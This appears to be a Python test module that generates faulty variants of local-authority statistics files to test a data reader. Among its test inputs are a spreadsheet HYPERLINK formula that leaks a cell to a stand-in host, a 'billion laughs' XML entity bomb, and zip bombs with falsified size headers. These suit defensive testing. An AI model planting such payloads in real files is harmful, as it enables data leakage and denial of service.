"""What can be wrong in a file that comes well, made in the file's own format from the source's good one."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Iterable, Iterator
from copy import deepcopy

from sources.reading.files import words
from tests.faults.documents import (
    Layout,
    Rows,
    as_number,
    columns_of,
    figures_of,
    header_of,
    like,
    read_tables,
    rows_of,
    sheets_of,
    write_tables,
)
from tests.faults.fault import ContentFault, DoesNotApplyError
from tests.faults.periods import latest, shifted, without_period
from tests.faults.subjects import ENGLAND, TOWER_HAMLETS, Subject

BOMB_SIZE = 150_000_000
SYMBOLS = ("†", "12.3p", "NaN", "1e999", "١٢", "5–9")
FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"click")'
ENTITIES = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
LAUGHS = f'<!DOCTYPE lolz [<!ENTITY a0 "ha">{ENTITIES}]>'

Edit = Callable[[Layout, Rows], None]


def edited(edit: Edit) -> Callable[[Subject, Layout], Iterator[bytes]]:
    """A fault that changes the cells of every table with figures."""
    return edited_each(lambda: [edit])


def edited_each(
    edits: Callable[[], Iterable[Edit]],
) -> Callable[[Subject, Layout], Iterator[bytes]]:
    """A fault that changes the cells in one of several ways."""

    def spoil(subject: Subject, layout: Layout) -> Iterator[bytes]:
        good = subject.content(layout)
        for edit in edits():
            tables = read_tables(layout, good)
            for name in sheets_of(layout, tables):
                edit(layout, tables[name])
            if tables == read_tables(layout, good):
                raise DoesNotApplyError("the file has nothing of the kind")
            yield write_tables(layout, tables, good)

    return spoil


def text_only(
    spoil: Callable[[bytes], bytes | Iterable[bytes]],
) -> Callable[[Subject, Layout], Iterator[bytes]]:
    """A fault of files of plain text."""

    def spoiled(subject: Subject, layout: Layout) -> Iterator[bytes]:
        if layout.is_workbook:
            raise DoesNotApplyError("a workbook is no plain text")
        made = spoil(subject.content(layout))
        yield from [made] if isinstance(made, bytes) else made

    return spoiled


# --- bytes ---


def windows_1252(subject: Subject, layout: Layout) -> Iterator[bytes]:
    """With a word that the two encodings write differently, in a cell of words."""
    if layout.is_workbook or layout.format == "json":
        raise DoesNotApplyError("the format fixes its encoding")
    good = subject.content(layout)
    tables = read_tables(layout, good)
    for column in columns_of(layout, tables[""], (layout.text,)):
        tables[""][-1][column] = "Café £ – €"
    yield write_tables(layout, tables, good).decode().encode("cp1252")


def cut_at_a_line(content: bytes) -> Iterator[bytes]:
    lines = content.splitlines(keepends=True)
    if len(lines) < 3:
        raise DoesNotApplyError("the file is one line")
    for kept in sorted({2, len(lines) // 3, len(lines) // 2, len(lines) - 2, len(lines) - 1}):
        yield b"".join(lines[:kept])


def cut_in_mid_line(content: bytes) -> Iterator[bytes]:
    for part in (0.1, 0.5, 0.9):
        yield content[: int(len(content) * part)]
    yield content.rstrip(b"\r\n")[:-2]


def cut_anywhere(subject: Subject, layout: Layout) -> Iterator[bytes]:
    yield from cut_in_mid_line(subject.content(layout))


def header_only(subject: Subject, layout: Layout) -> Iterator[bytes]:
    good = subject.content(layout)
    tables = read_tables(layout, good)
    for name in sheets_of(layout, tables):
        del tables[name][header_of(layout, tables[name]) + 1 :]
    yield write_tables(layout, tables, good)


# --- columns, sheets, rows ---


def reversed_columns(_: Layout, rows: Rows) -> None:
    for row in rows:
        row.reverse()


def rotated_columns(_: Layout, rows: Rows) -> None:
    for row in rows:
        row.append(row.pop(0))


def renamed(columns: Callable[[Layout], tuple[str | int, ...]], which: int = -1) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        header = rows[header_of(layout, rows)]
        for column in [
            found[which] for found in [columns_of(layout, rows, columns(layout))] if found
        ]:
            before, dot, _ = (
                str(header[column]).rpartition(".") if layout.format == "json" else ("", "", "")
            )
            header[column] = f"{before}{dot}renamed"

    return edit


def with_new_column(at: int | None, name: str = "new_column") -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        header = header_of(layout, rows)
        for index, row in enumerate(rows):
            cell = name if index == header else 17.5 if layout.is_workbook else "17.5"
            row.insert(len(row) if at is None else at, cell if index >= header else "")

    return edit


def with_doubled_column(*, first: bool) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        for column in columns_of(layout, rows, layout.values)[-1:]:
            for row in rows[header_of(layout, rows) :]:
                number = as_number(row[column])
                again = row[column] if number is None else like(row[column], number * 1.5)
                row.insert(column if first else len(row), again)
            for row in rows[: header_of(layout, rows)]:
                row.insert(column if first else len(row), "")

    return edit


def with_title_row(_: Layout, rows: Rows) -> None:
    rows.insert(0, ["Published by the ministry", *[""] * (len(rows[0]) - 1)])


def with_empty_row(layout: Layout, rows: Rows) -> None:
    at = header_of(layout, rows) + 1
    rows.insert(at, [""] * len(rows[0]))


def renamed_sheet(subject: Subject, layout: Layout) -> Iterator[bytes]:
    if not layout.is_workbook:
        raise DoesNotApplyError("the file has no sheets")
    good = subject.content(layout)
    for new in ("Sheet1", "{} (2)", "Notes"):
        tables = read_tables(layout, good)
        last = sheets_of(layout, tables)[-1]
        yield write_tables(
            layout,
            {new.format(name) if name == last else name: rows for name, rows in tables.items()},
            good,
        )


def doubled_sheet(subject: Subject, layout: Layout) -> Iterator[bytes]:
    if not layout.is_workbook:
        raise DoesNotApplyError("the file has no sheets")
    good = subject.content(layout)
    tables = read_tables(layout, good)
    last = sheets_of(layout, tables)[-1]
    again = deepcopy(tables[last])
    scaled(1.5, lambda one: one.values)(layout, again)
    yield write_tables(layout, {**tables, f"{last} (2)": again}, good)


# --- figures ---


def scaled(factor: float, columns: Callable[[Layout], tuple[str | int, ...]]) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        for index, column in list(figures_of(layout, rows, columns(layout))):
            cell = rows[index][column]
            rows[index][column] = like(cell, float(cell) * factor)

    return edit


def scaled_latest(factor: float, columns: Callable[[Layout], tuple[str | int, ...]]) -> Edit:
    """Only in the latest period: the publisher has changed its ways this year."""

    def edit(layout: Layout, rows: Rows) -> None:
        newest = latest(layout, rows)
        for index, column in list(figures_of(layout, rows, columns(layout))):
            if newest(index, column):
                rows[index][column] = like(rows[index][column], float(rows[index][column]) * factor)

    return edit


def percents(layout: Layout) -> tuple[str | int, ...]:
    if not layout.percents:
        raise DoesNotApplyError("the file has no percentages")
    return layout.percents


def as_fractions(layout: Layout) -> tuple[str | int, ...]:
    if layout.fractions:
        raise DoesNotApplyError("the publisher writes fractions")
    return percents(layout)


def as_percentages(layout: Layout) -> tuple[str | int, ...]:
    if not layout.fractions:
        raise DoesNotApplyError("the publisher writes percentages")
    return percents(layout)


def amounts(layout: Layout) -> tuple[str | int, ...]:
    """Counts, pounds and tonnes."""
    if layout.percents == layout.values:
        raise DoesNotApplyError("the file has percentages only")
    return layout.values


def separated(mark: str) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        for index, column in list(figures_of(layout, rows, layout.values)):
            number = float(rows[index][column])
            if abs(number) >= 1000:
                rows[index][column] = f"{number:,.10g}".replace(",", mark)

    return edit


def with_symbol(symbol: str) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        about = rows_of(layout, rows, our_area(layout))
        cells = [(i, c) for i, c in figures_of(layout, rows, layout.values) if i in about]
        for index, column in cells[-1:] if cells else []:
            rows[index][column] = symbol

    return edit


def with_formula(layout: Layout, rows: Rows) -> None:
    for column in columns_of(layout, rows, (layout.text,)) if layout.text else []:
        rows[rows_of(layout, rows, our_area(layout))[-1]][column] = FORMULA


def with_formula_as_area(layout: Layout, rows: Rows) -> None:
    for index in rows_of(layout, rows, our_area(layout))[-1:]:
        for column, cell in enumerate(rows[index]):
            if words(cell) in layout.areas[our_area(layout)]:
                rows[index][column] = f"={cell}"


# --- areas ---


def our_area(layout: Layout) -> str:
    """Tower Hamlets, or the first area of a file that has no row for it."""
    return TOWER_HAMLETS if TOWER_HAMLETS in layout.areas else next(iter(layout.areas))


def without_area(area: str) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        for index in reversed(rows_of(layout, rows, area) if area in layout.areas else []):
            del rows[index]

    return edit


def area_again(factor: float) -> Edit:
    def edit(layout: Layout, rows: Rows) -> None:
        again = [list(rows[index]) for index in rows_of(layout, rows, our_area(layout))]
        first = len(rows)
        rows += again
        for index, column in list(figures_of(layout, rows, layout.values)):
            if index >= first:
                rows[index][column] = like(rows[index][column], float(rows[index][column]) * factor)

    return edit


def area_renamed(layout: Layout, rows: Rows) -> None:
    if not layout.names:
        raise DoesNotApplyError("the file has no name beside a code")
    for index in rows_of(layout, rows, our_area(layout)):
        for column, cell in enumerate(rows[index]):
            if cell == layout.names[our_area(layout)]:
                rows[index][column] = "Royal Borough of Tower Hamlets"


def area_recoded(layout: Layout, rows: Rows) -> None:
    for index in rows_of(layout, rows, our_area(layout)):
        for column, cell in enumerate(rows[index]):
            if words(cell) == layout.areas[our_area(layout)][0]:
                rows[index][column] = "E09000099" if words(cell).startswith("E") else "Poplar"


# --- archives ---


def zip_bombs(subject: Subject, layout: Layout) -> Iterator[bytes]:
    """A sheet that inflates enormously, first with honest sizes in the headers, then with small ones."""
    if not layout.is_workbook:
        raise DoesNotApplyError("the file is no zip")
    parts = _parts(subject.content(layout))
    largest = max(parts, key=lambda name: len(parts[name]))
    bomb = _zip(parts | {largest: parts[largest] + b" " * BOMB_SIZE})
    yield bomb
    yield _understated(bomb, largest)
    far = subject.content(layout), layout.format
    yield from _far_cells(*far)


def entity_bombs(subject: Subject, layout: Layout) -> Iterator[bytes]:
    """Entities of entities: in each part of a workbook, or in a page that comes instead of the file."""
    if not layout.is_workbook:
        yield f"{LAUGHS}<html><body>&a9;</body></html>".encode()
        yield f'<?xml version="1.0"?>{LAUGHS}<data>&a9;</data>'.encode()
        return
    parts = _parts(subject.content(layout))
    name = max(parts, key=lambda name: len(parts[name]))
    declaration, _, rest = parts[name].partition(b"?>")
    text = re.sub(rb"(<text:p>|<t>)", rb"\1&a9;", rest, count=1)
    yield _zip(parts | {name: declaration + b"?>" + LAUGHS.encode() + text})
    yield _zip(parts | {name: declaration + b"?>" + text})


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(parts: dict[str, bytes]) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return whole.getvalue()


def _understated(content: bytes, name: str) -> bytes:
    """The same zip, whose headers say that a part has a thousand bytes."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        size = archive.getinfo(name).file_size.to_bytes(4, "little")
    return content.replace(size, (1000).to_bytes(4, "little"))


def _far_cells(content: bytes, kind: str) -> Iterator[bytes]:
    """One cell in the last row and column: a table with the cells between does not fit into any memory."""
    parts = _parts(content)
    if kind == "ods":
        far = (
            b'<table:table-row table:number-rows-repeated="1048000"><table:table-cell '
            b'office:value-type="float" table:number-columns-repeated="16000" office:value="1"/></table:table-row>'
        )
        yield _zip(
            parts
            | {
                "content.xml": parts["content.xml"].replace(
                    b"</table:table>", far + b"</table:table>"
                )
            }
        )
        return
    sheet = next(name for name in parts if name.startswith("xl/worksheets/"))
    row = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    yield _zip(parts | {sheet: parts[sheet].replace(b"</sheetData>", row)})


def period_lost(which: int) -> Callable[[Subject, Layout], Iterator[bytes]]:
    return _in_sheets_of_years(
        lambda layout, rows: without_period(layout, rows, which),
        lambda years: [year for year in years if year != years[which]],
    )


def years_shifted(by: int, *, all_of_them: bool) -> Callable[[Subject, Layout], Iterator[bytes]]:
    return _in_sheets_of_years(
        lambda layout, rows: shifted(layout, rows, by, all_of_them=all_of_them),
        lambda years: [
            str(int(year) + by) if all_of_them or year == years[-1] else year for year in years
        ],
    )


def _in_sheets_of_years(
    edit: Edit, rename: Callable[[list[str]], list[str]]
) -> Callable[[Subject, Layout], Iterator[bytes]]:
    """An edit of periods; where each year has a sheet, named by the year, of the names of sheets."""

    def spoil(subject: Subject, layout: Layout) -> Iterator[bytes]:
        good = subject.content(layout)
        if not layout.sheets.startswith("20"):
            yield from edited(edit)(subject, layout)
            return
        tables = read_tables(layout, good)
        years, new = sheets_of(layout, tables), rename(sheets_of(layout, tables))
        if len(new) < len(years):
            yield write_tables(layout, {name: tables[name] for name in new}, good)
            return
        for year, name in zip(years, new, strict=True):
            for row in tables[year]:
                row[:] = [
                    cell.replace(year, name) if isinstance(cell, str) else cell for cell in row
                ]
        yield write_tables(
            layout, dict(zip(new, (tables[year] for year in years), strict=True)), good
        )

    return spoil


def _of_values(layout: Layout) -> tuple[str | int, ...]:
    return layout.values


def _of_periods(layout: Layout) -> tuple[str | int, ...]:
    return layout.periods or ((layout.wide,) if layout.wide else ())


def _json_is_fine(content: bytes) -> bytes:
    return b"\xef\xbb\xbf" + content.removeprefix(b"\xef\xbb\xbf")


FAULTS = (
    ContentFault(
        name="no fault", sentence="The good file, read and written again: the corpus itself changes nothing.",
        spoil=lambda subject, layout: iter(
            [write_tables(layout, read_tables(layout, subject.content(layout)), subject.content(layout))]
        ),
    ),
    ContentFault(
        name="byte-order mark", sentence="The file begins with a byte-order mark.", spoil=text_only(_json_is_fine)
    ),
    ContentFault(
        name="Windows-1252", sentence="The file is in the encoding of old Windows.", spoil=windows_1252,
        rewords=("note",),
    ),
    ContentFault(
        name="UTF-16", sentence="The file is in UTF-16, as Excel's “Unicode text” is.",
        spoil=text_only(lambda content: content.removeprefix(b"\xef\xbb\xbf").decode().encode("utf-16")),
    ),
    ContentFault(
        name="CRLF", sentence="Lines end as on Windows.",
        spoil=text_only(lambda content: content.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")),
    ),
    ContentFault(
        name="CR only", sentence="Lines end as on an old Macintosh.",
        spoil=text_only(lambda content: content.replace(b"\r\n", b"\n").replace(b"\n", b"\r")),
    ),
    ContentFault(
        name="semicolons", sentence="Columns are separated as on the continent.",
        spoil=text_only(lambda content: content.replace(b",", b";")),
    ),
    ContentFault(name="header only", sentence="A header and no row under it.", spoil=header_only, loses=True),
    ContentFault(
        name="cut at a line", sentence="The file ends early, after a whole line.", spoil=text_only(cut_at_a_line),
        loses=True,
    ),
    ContentFault(
        name="cut in mid-line", sentence="The file ends early, within a line or within the zip.", spoil=cut_anywhere
    ),
    ContentFault(
        name="columns reordered", sentence="The columns come in another order.",
        spoil=edited_each(lambda: [reversed_columns, rotated_columns]),
    ),
    ContentFault(
        name="a figure's column renamed", sentence="A column of figures has another name.",
        spoil=edited_each(lambda: [renamed(_of_values, 0), renamed(_of_values)]), loses=True,
    ),
    ContentFault(
        name="a period's column renamed", sentence="A column of periods has another name.",
        spoil=edited(renamed(_of_periods)), loses=True,
    ),
    ContentFault(
        name="a column added", sentence="There is a column that was not there: in front, in the middle, at the end.",
        spoil=edited_each(lambda: [with_new_column(0), with_new_column(1), with_new_column(None)]),
        rewords=("note",),
    ),
    ContentFault(
        name="an unnamed column added", sentence="There is a column without a name.",
        spoil=edited_each(lambda: [with_new_column(0, ""), with_new_column(None, "")]),
        rewords=("note",),
    ),
    ContentFault(
        name="a column doubled", sentence="A column of figures stands twice, with other figures the second time.",
        spoil=edited_each(lambda: [with_doubled_column(first=False), with_doubled_column(first=True)]),
    ),
    ContentFault(name="a sheet renamed", sentence="The sheet has another name.", spoil=renamed_sheet, loses=True),
    ContentFault(name="a sheet doubled", sentence="The sheet stands twice, with other figures.", spoil=doubled_sheet),
    ContentFault(name="a title row more", sentence="There is a row above all others.", spoil=edited(with_title_row)),
    ContentFault(name="an empty row", sentence="There is an empty row under the header.", spoil=edited(with_empty_row)),
    ContentFault(
        name="percentages as fractions", sentence="23.8 % is written 0.238, everywhere.",
        spoil=edited(scaled(0.01, as_fractions)),
    ),
    ContentFault(
        name="percentages as fractions this year", sentence="The same in the latest period only.",
        spoil=edited(scaled_latest(0.01, as_fractions)),
    ),
    ContentFault(
        name="fractions as percentages",
        rewords=("source_text",), sentence="0.238 is written 23.8, everywhere.",
        spoil=edited(scaled(100, as_percentages)),
    ),
    ContentFault(
        name="fractions as percentages this year",
        rewords=("source_text",), sentence="The same in the latest period only.",
        spoil=edited(scaled_latest(100, as_percentages)),
    ),
    ContentFault(
        name="percentages a hundredfold", sentence="23.8 % is written 2380, everywhere.",
        spoil=edited(scaled(100, as_fractions)),
    ),
    ContentFault(
        name="figures in thousands", sentence="Every count, amount and score is divided by a thousand.",
        spoil=edited(scaled(0.001, amounts)),
    ),
    ContentFault(
        name="thousands separators", sentence="1234 is written 1,234; or with a space; or with an apostrophe.",
        spoil=edited_each(lambda: [separated(","), separated(" "), separated("’"), separated("\u00a0")]),
        rewords=("source_text",),
    ),
    ContentFault(
        name="a symbol never seen", sentence=f"A figure is {', '.join(SYMBOLS)}.",
        spoil=edited_each(lambda: [with_symbol(symbol) for symbol in SYMBOLS]),
        loses=True, rewords=("source_text", "note"),
    ),
    ContentFault(
        name="a cell emptied", sentence="A figure is missing without a reason.", spoil=edited(with_symbol("")),
        loses=True, rewords=("source_text", "note"),
    ),
    ContentFault(
        name="the area missing", sentence="Tower Hamlets is not there.", spoil=edited(without_area(TOWER_HAMLETS))
    ),
    ContentFault(name="England missing", sentence="England is not there.", spoil=edited(without_area(ENGLAND))),
    ContentFault(
        name="the area doubled", sentence="Tower Hamlets stands twice, the same.", spoil=edited(area_again(1))
    ),
    ContentFault(
        name="the area doubled, with other figures", sentence="Tower Hamlets stands twice, and differs.",
        spoil=edited(area_again(1.1)),
    ),
    ContentFault(
        name="the area renamed, same code", sentence="Tower Hamlets has another name beside its code.",
        spoil=edited(area_renamed),
    ),
    ContentFault(name="the area recoded", sentence="Tower Hamlets has another code.", spoil=edited(area_recoded)),
    ContentFault(
        name="the last period lost", sentence="The latest period is gone: last year's file again.",
        spoil=period_lost(-1), loses=True,
    ),
    ContentFault(
        name="a period lost in the middle", sentence="One period is gone, and those around it are there.",
        spoil=period_lost(1), loses=True,
    ),
    ContentFault(
        name="all years shifted", sentence="Every period is called by the year after it.",
        spoil=years_shifted(1, all_of_them=True),
    ),
    ContentFault(
        name="all years shifted back", sentence="Every period is called by the year before it.",
        spoil=years_shifted(-1, all_of_them=True),
    ),
    ContentFault(
        name="the last year shifted", sentence="The latest period is called by the year after it.",
        spoil=years_shifted(1, all_of_them=False),
    ),
    ContentFault(
        name="shifted into the future", sentence="Every period is called by a year ten years on.",
        spoil=years_shifted(10, all_of_them=True),
    ),
    ContentFault(
        name="zip bomb", sentence="A workbook whose sheet inflates to 150 MB, also with sizes that lie, or a far cell.",
        spoil=zip_bombs,
    ),
    ContentFault(
        name="entity bomb", sentence="Entities of entities, in a workbook or in a page instead of the file.",
        spoil=entity_bombs,
    ),
    ContentFault(
        name="a formula in a text cell", sentence="A cell of words begins with = and would act in a spreadsheet.",
        spoil=edited(with_formula), rewords=("note",),
    ),
    ContentFault(
        name="a formula for the area's code", sentence="The code or name of the area begins with =.",
        spoil=edited(with_formula_as_area), loses=True,
    ),
)  # fmt: skip
"""Every fault of a file, by its name in the table of outcomes."""
